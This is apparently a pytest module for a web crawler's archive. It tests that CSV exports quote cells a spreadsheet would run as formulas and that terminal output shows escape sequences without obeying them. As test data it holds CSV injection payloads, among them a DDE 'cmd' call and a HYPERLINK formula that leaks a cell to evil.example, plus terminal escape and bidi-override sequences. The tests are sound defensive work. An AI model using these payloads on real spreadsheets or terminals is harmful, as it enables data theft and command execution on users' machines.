"""What the archive writes and prints holds no formula and no terminal control sequence.

Archived text was written by whoever wrote the page: a title may be a
spreadsheet formula or carry escape sequences for the terminal that prints it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from scrapy.utils.test import get_crawler
from sqlalchemy import update

from crawler.archive.database import create_archive_engine
from crawler.archive.models import CrawlRun
from crawler.cli.output import printable
from crawler.export.cells import FORMULA_STARTS, spreadsheet_cell
from crawler.export.feed import ArticleCsvItemExporter
from localcopy.server import ServerThread
from localcopy.site import SEED_ID, LocalSite
from tests.conftest import ROOT, crawl
from tests.terminal import on_terminal

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Read more")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
# Retitles the terminal's window, clears the screen, colours what follows, reverses it.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mEscapist \u202eevil\u202c \x9b2J"
ESCAPES_SHOWN = "␛]0;pwned␇␛[2J␛[31mEscapist \\u202eevil\\u202c \\u009b2J"
ESCAPED_BODY = "Bodyword \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \u2066isolated\u2069 \x08"
# What a terminal obeys: C0 controls but tab and newline, DEL, C1, bidi controls.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
BOLD = re.compile(r"\x1b\[(?:0|1|22)m")  # the program's own styling


@dataclass
class Hostile:
    url: str
    feed: Path
    titles: dict[str, str]
    escaped: str
    """The article whose title and body carry escape sequences."""
    page: str
    """Its page."""

    def command(self, *args: str, db: bool = True) -> list[str]:
        return [sys.executable, "-m", "crawler", *args, *(["--db", self.url] if db else [])]

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            self.command(*args),
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )

    def csv_rows(self, *args: str) -> list[dict[str, str]]:
        done = self.run(*args)
        assert done.returncode == 0, done.stderr
        return list(csv.DictReader(io.StringIO(done.stdout)))

    def on_terminal(self, *args: str, db: bool = True) -> str:
        """What a person at a terminal sees (a pty of 24 rows of 200 columns)."""
        seen = on_terminal(self.command(*args, db=db), columns=200, env={"COLUMNS": "200"})
        return seen.decode("utf-8").replace("\r\n", "\n")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The local copy with formulas for titles, crawled once with a CSV feed (`-O items.csv`)."""
    site = LocalSite(pages=40)
    titled = site.related[SEED_ID][: len(FORMULAS)]
    for article_id, title in zip(titled, FORMULAS, strict=True):
        site.retitle(article_id, title)
    escaped = site.related[SEED_ID][len(FORMULAS)]
    site.retitle(escaped, ESCAPES)
    page = site.page_reply(escaped).body.decode().replace("<p>", f"<p>{ESCAPED_BODY}</p><p>", 1)
    site.replace_page(escaped, page)
    work = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{work / 'archive.sqlite3'}"
    with ServerThread(site) as base_url:
        run = crawl(url, "-O", str(work / "items.csv"), start=SEED_ID, base_url=base_url)
    assert run.returncode == 0, run.log
    engine = create_archive_engine(url)
    with engine.begin() as conn:  # a run's message may quote what a server said
        conn.execute(update(CrawlRun).values(message=f"server said {ESCAPES}"))
    engine.dispose()
    yield Hostile(url, work / "items.csv", dict(zip(titled, FORMULAS, strict=True)), escaped, page)


def formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell.startswith(FORMULA_STARTS) and spreadsheet_cell(cell) != cell
    ]


# -- CSV: no cell starts a formula -----------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a title = fine", "a title = fine"),
        ("", ""),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(cell, written):
    assert spreadsheet_cell(cell) == written


@pytest.mark.parametrize("number", ["-5", "+5", "-1.25", "+1.5e3", "-.5", "12"])
def test_a_cell_that_is_wholly_a_number_stays_as_it_is(number):
    assert spreadsheet_cell(number) == number


@pytest.mark.parametrize("value", [-5, 3.5, None, True])
def test_a_value_that_is_not_text_stays_as_it_is(value):
    assert spreadsheet_cell(value) is value


def test_export_csv_writes_no_cell_that_starts_a_formula(hostile):
    rows = hostile.csv_rows("export", "--format", "csv")

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {titles[i] for i in hostile.titles} == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


def test_export_csv_with_raw_csv_writes_the_text_exactly(hostile):
    rows = hostile.csv_rows("export", "--format", "csv", "--raw-csv")

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {i: titles[i] for i in hostile.titles} == hostile.titles


def test_export_jsonl_keeps_the_text_exactly(hostile):
    done = hostile.run("export", "--format", "jsonl")

    titles = {r["article_id"]: r["title"] for r in map(json.loads, done.stdout.splitlines())}
    assert {i: titles[i] for i in hostile.titles} == hostile.titles


def test_graph_csv_writes_no_cell_that_starts_a_formula(hostile):
    rows = hostile.csv_rows("graph", "--format", "csv")

    targets = {row["target_title"] for row in rows if row["target_id"] in hostile.titles}
    assert targets == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


def test_graph_csv_with_raw_csv_writes_the_titles_exactly(hostile):
    rows = hostile.csv_rows("graph", "--format", "csv", "--raw-csv")

    targets = {row["target_title"] for row in rows if row["target_id"] in hostile.titles}
    assert targets == set(hostile.titles.values())


def test_a_csv_feed_of_the_crawl_writes_no_cell_that_starts_a_formula(hostile):
    rows = list(csv.DictReader(io.StringIO(hostile.feed.read_text("utf-8"))))

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {titles[i] for i in hostile.titles} == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


@pytest.mark.parametrize(("raw", "written"), [(False, "'=1+1"), (True, "=1+1")])
def test_a_csv_feed_is_raw_only_when_archive_csv_raw_says_so(raw, written):
    crawler = get_crawler(settings_dict={"ARCHIVE_CSV_RAW": raw})
    stream = io.BytesIO()
    exporter = ArticleCsvItemExporter.from_crawler(crawler, stream)

    exporter.start_exporting()
    exporter.export_item({"title": "=1+1"})
    exporter.finish_exporting()

    assert list(csv.reader(io.StringIO(stream.getvalue().decode()))) == [["title"], [written]]


# -- text for people: no control sequence reaches the terminal -------------------------------


def obeyed(seen: str) -> list[str]:
    """The control characters a terminal would act on, the program's own bold aside."""
    return CONTROLS.findall(BOLD.sub("", seen))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07", "␛]0;title␇"),
        ("\x1b[2J", "␛[2J"),
        ("\x9b2J", "\\u009b2J"),
        ("\u202eevil", "\\u202eevil"),
        ("\u2066a\u2069", "\\u2066a\\u2069"),
        ("over\rwrite\x08\x7f", "over␍write␈␡"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("Iran’s «news» ایران", "Iran’s «news» ایران"),
    ],
)
def test_control_characters_are_shown_to_people_never_obeyed(text, shown):
    assert printable(text) == shown


def test_show_on_a_terminal_shows_escape_sequences_without_obeying_them(hostile):
    seen = hostile.on_terminal("show", hostile.escaped)

    assert ESCAPES_SHOWN in seen
    assert "Bodyword ␛]8;;https://evil.example␇link" in seen
    assert obeyed(seen) == []


def test_show_json_keeps_the_text_exactly(hostile):
    done = hostile.run("show", hostile.escaped, "--json")

    article = json.loads(done.stdout)["article"]
    assert article["title"] == ESCAPES
    assert article["body"].startswith(ESCAPED_BODY)


def test_search_for_people_shows_escape_sequences_without_obeying_them(hostile):
    seen = hostile.on_terminal("search", "Bodyword", "--human")

    assert ESCAPES_SHOWN in seen
    assert BOLD.search(seen)  # the match itself, in the program's bold
    assert obeyed(seen) == []


def test_history_on_a_terminal_shows_escape_sequences_without_obeying_them(hostile):
    seen = hostile.on_terminal("history", hostile.escaped)

    assert ESCAPES_SHOWN in seen
    assert obeyed(seen) == []


def test_stats_on_a_terminal_shows_a_run_message_without_obeying_it(hostile):
    seen = hostile.on_terminal("stats", "--human")

    assert "server said ␛]0;pwned␇" in seen
    assert obeyed(seen) == []


def test_parse_of_a_saved_page_shows_escape_sequences_without_obeying_them(hostile, tmp_path):
    saved = tmp_path / "page.html"
    saved.write_text(hostile.page, encoding="utf-8")

    seen = hostile.on_terminal(
        "parse", str(saved), "--url", f"https://en.alalam.ir/news/{hostile.escaped}", db=False
    )

    assert ESCAPES_SHOWN in seen
    assert obeyed(seen) == []
